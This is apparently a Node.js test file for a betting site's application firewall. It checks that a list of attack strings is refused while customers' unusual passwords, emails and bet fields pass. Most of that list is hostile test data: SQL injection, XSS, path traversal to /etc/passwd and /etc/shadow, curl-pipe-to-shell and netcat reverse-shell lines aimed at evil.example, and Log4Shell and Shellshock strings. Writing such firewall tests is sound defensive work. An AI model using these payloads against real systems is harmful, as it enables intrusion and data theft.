// The application firewall: what it refuses, and that it refuses nothing of the
// product's own calls.
'use strict';

const assert = require('node:assert/strict');
const { after, before, describe, it } = require('node:test');
const { market, newKey } = require('../api/lib/world');
const openapi = require('../api/lib/openapi');
const { edgeFor } = require('./lib/edge');

const q = (text) => encodeURIComponent(text);

// Where it stands: of a query, a body of JSON, a header or the path.
const ATTACKS = [
  ['SQL', 'query', "1' or '1'='1' -- "],
  ['SQL', 'query', "x' union select email, password from accounts--"],
  ['SQL', 'query', "1; drop table bets--"],
  ['SQL', 'query', "1' and sleep(5)#"],
  ['SQL', 'query', "1 and (select 1 from pg_sleep(5))"],
  ['SQL', 'body', "sr:match:1' or 1=1 union select * from accounts--"],
  ['SQL', 'body', "'; exec xp_cmdshell('dir')--"],
  ['SQL', 'cookie', "session=1' or '1'='1"],
  ['XSS', 'query', '<script>alert(document.cookie)</script>'],
  ['XSS', 'query', '"><img src=x onerror=alert(1)>'],
  ['XSS', 'query', "javascript:alert('x')//<svg onload=alert(1)>"],
  ['XSS', 'body', '<svg/onload=fetch("//evil.example")>'],
  ['XSS', 'header', ['referer', '"><script>alert(1)</script>']],
  ['LFI', 'query', '../../../../etc/passwd'],
  ['LFI', 'query', '..\\..\\windows\\win.ini'],
  ['LFI', 'query', '/proc/self/environ'],
  ['LFI', 'body', '../../../../etc/shadow'],
  ['RFI', 'query', 'http://203.0.113.9/shell.txt?'],
  ['RCE', 'query', ';cat /etc/passwd'],
  ['RCE', 'query', '$(curl http://evil.example/x|sh)'],
  ['RCE', 'query', '`id`; wget http://evil.example/x'],
  ['RCE', 'body', '| nc -e /bin/sh evil.example 4444'],
  ['RCE', 'header', ['user-agent', '() { :;}; /bin/bash -c "cat /etc/passwd"']],
  ['RCE', 'header', ['user-agent', '${jndi:ldap://evil.example/a}']],
  ['RCE', 'query', '${jndi:ldap://evil.example/a}'],
  ['PHP', 'query', '<?php system($_GET["c"]); ?>'],
  ['Node', 'body', "require('child_process').exec('id')"],
  ['Java', 'query', 'java.lang.Runtime.getRuntime().exec("id")'],
  ['protocol', 'query', 'x\r\nSet-Cookie: admin=1'],
  ['protocol', 'query', 'x\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>'],
  ['protocol', 'query', 'a\0b'],
  ['protocol', 'header', ['content-encoding', 'gzip']],
  ['scanner', 'header', ['user-agent', 'sqlmap/1.7#stable (https://sqlmap.org)']],
  ['scanner', 'header', ['user-agent', 'Nikto/2.1.6']],
];

// What customers write, and nobody means harm by.
const WORDS = [
  "O'Brien's \"best\" password", "x' or 1=1 -- ", '1=1 --', '<b>bold</b>', '"; drop table bets; --',
  'select * from winners', '../../etc/passwd', '$(reboot)', '${jndi:ldap://a}',
  'pässwörd ☂ 密码 🎰',
  '{"a":1}', '\\\\server\\share', '%27%20or%201%3D1', '<script>alert(1)</script>', 'a&b=c;d|e`f`',
];
const EMAILS = ["o'brien@example.com", 'a+b@example.com', 'first.last--x@sub.example.co.uk',
  'select@example.com', 'd’arcy@example.com'];

const pathOf = ({ path }, params) =>
  path.replace(/\{(\w+)\}/, (_, name) => encodeURIComponent(params[name]));

describe('the application firewall', () => {
  const of = edgeFor({ before, after }, {});
  let event;

  const attack = ([, where, what]) => {
    const { edge } = of();
    if (where === 'query') return edge.call('GET', `/v1/events?sport=${q(what)}`);
    if (where === 'cookie') return edge.call('GET', '/v1/wallet', { headers: { cookie: what } });
    if (where === 'header')
      return edge.call('GET', '/v1/wallet', { headers: { [what[0]]: what[1] } });
    return edge.call('POST', '/v1/bets', {
      key: newKey(),
      json: { stake: '1.00', type: 'single', accept: 'none',
        legs: [{ event: what, market: '1', outcome: '1', odds: '2.00' }] },
    });
  };

  before(async () => {
    event = await of().world.event([market.oneXTwo(), market.handicap(), market.total()]);
  });

  it('refuses attacks', async (t) => {
    const passed = [];
    for (const one of ATTACKS) {
      const answer = await attack(one);
      if (answer.status !== 403 || answer.code !== 'client_refused')
        passed.push(`${answer.status} ${one.flat().join(' ')}`);
      else assert.match(answer.headers['content-type'], /^application\/problem\+json/);
    }
    t.diagnostic(`${ATTACKS.length} attacks, ${passed.length} passed`);
    assert.deepEqual(passed, []);
  });

  it('says whom it refused, and for what', async () => {
    const { edge } = of();
    const { status } = await edge.call('GET', `/v1/events?sport=${q("asked' or '1'='1' -- ")}`);
    assert.equal(status, 403);
    const said = edge.log().split('\n').filter((line) => line.includes('sport=asked'));
    assert.match(said.join('\n'), /"10006".*Found: SQL [1-9]\d*, XSS 0, files 0"/);
  });

  it('and methods that no path has', async () => {
    for (const method of ['PATCH', 'TRACE', 'OPTIONS', 'PROPFIND', 'LINK']) {
      const { status } = await of().edge.call(method, '/v1/wallet');
      assert.ok(status === 405 || status === 403, `${method}: ${status}`);
    }
    const { status, headers, code } = await of().edge.call('DELETE', '/v1/bets');
    assert.deepEqual([status, headers.allow, code], [405, 'POST, GET', 'method_not_allowed']);
  });

  // Each call of the document with its own example, by a customer of its own: whether
  // it came to the server is in the node's log.
  it('no call of the interface is refused', async (t) => {
    const { edge, world } = of();
    const calls = Object.values(openapi.operations)
      .filter(({ listener, path }) => listener === 'public' && !path.endsWith('/stream'));
    const ids = [];
    for (const operation of calls) {
      const { token } = await world.customer();
      const { params, json, key } = openapi.exampleRequest(operation);
      const id = `call-${ids.length}`;
      ids.push(id);
      await edge.call(operation.method, pathOf(operation, params),
        { json, key, token, headers: { 'x-request-id': id } });
    }
    const log = new Map(edge.requests().map((line) => [line.request, line]));
    const refused = ids.map((id) => log.get(id)).filter((line) => !line || !line.origin_status);
    t.diagnostic(`${calls.length} calls of docs/openapi.yaml, ${refused.length} refused`);
    assert.deepEqual(refused, []);
    assert.ok(calls.length >= 24);
  });

  it('a customer excludes himself, sets limits and logs out', async () => {
    const { world } = of();
    const customer = await world.customer();
    const limit = await customer.call('PUT', '/v1/limits', {
      json: { kind: 'deposit', period: 'day', amount: '50.00' },
    });
    assert.equal(limit.status, 200, limit.text);
    const until = new Date(Date.now() + 40 * 86400e3).toISOString().replace(/\.\d+/, '');
    const out = await customer.call('PUT', '/v1/exclusion', { json: { until } });
    assert.equal(out.status, 200, out.text);
    assert.equal((await customer.call('DELETE', '/v1/sessions')).status, 204);
    assert.equal((await customer.call('GET', '/v1/wallet')).status, 401);
  });

  it('passwords and addresses may be anything', async (t) => {
    const { world, edge } = of();
    for (const [i, word] of WORDS.entries()) {
      const password = word.padEnd(12, '.');
      const customer = await world.customer({ password, email: `word-${i}@example.com` });
      const json = { email: customer.fields.email, password };
      const again = await edge.call('POST', '/v1/sessions', { json });
      assert.equal(again.status, 201, `${word}: ${again.text}`);
    }
    for (const email of EMAILS) {
      const json = { email, password: 'correct horse battery' };
      const { status, code } = await edge.call('POST', '/v1/sessions', { json });
      assert.deepEqual([status, code], [401, 'wrong_credentials'], email);
    }
    t.diagnostic(`${WORDS.length} passwords, ${EMAILS.length} addresses: 0 refused`);
  });

  it('keys, tokens and slips with odd characters are the server\'s to judge', async () => {
    const { world } = of();
    const customer = await world.customer({ balance: '100.00' });
    for (const key of ["it's mine", '1=1 --', 'a"b<c>d', 'union select', '$(x)', 'k;cat x', '../k'])
      await customer.placed(event.home(), { key: key.padEnd(14, '!'), stake: '1.00' });
    await customer.placed(event.leg(16, 1714, '1.90', { specifiers: 'hcp=-0.25' }));
    for (const specifiers of ['total=2.5|from=1|to=15', 'variant=sr:exact_goals:6+',
      "player=O'Neill",
      'score=1:0', 'setnr=1|gamenr=2', 'hcp=0:1', 'team=1. FC Köln & "Co" (ex-Borussia)',
      "team=Côte d'Ivoire -- U21", 'team=Brøndby/København', 'team=<b>']) {
      const leg = event.leg(18, 12, '1.95', { specifiers });
      const { status, code, text } = await customer.bet(leg, { stake: '1.00' });
      assert.deepEqual([status, code], [422, 'unknown_selection'], `${specifiers}: ${text}`);
    }
  });

  it('what cannot be read is said to be so', async () => {
    const { edge, world } = of();
    const { token } = await world.customer();
    const body = '{"stake": "1.00", ';
    const type = 'application/json';
    const options = { token, body, type, key: newKey() };
    const { status, code } = await edge.call('POST', '/v1/bets', options);
    assert.deepEqual([status, code], [400, 'malformed']);
  });
});
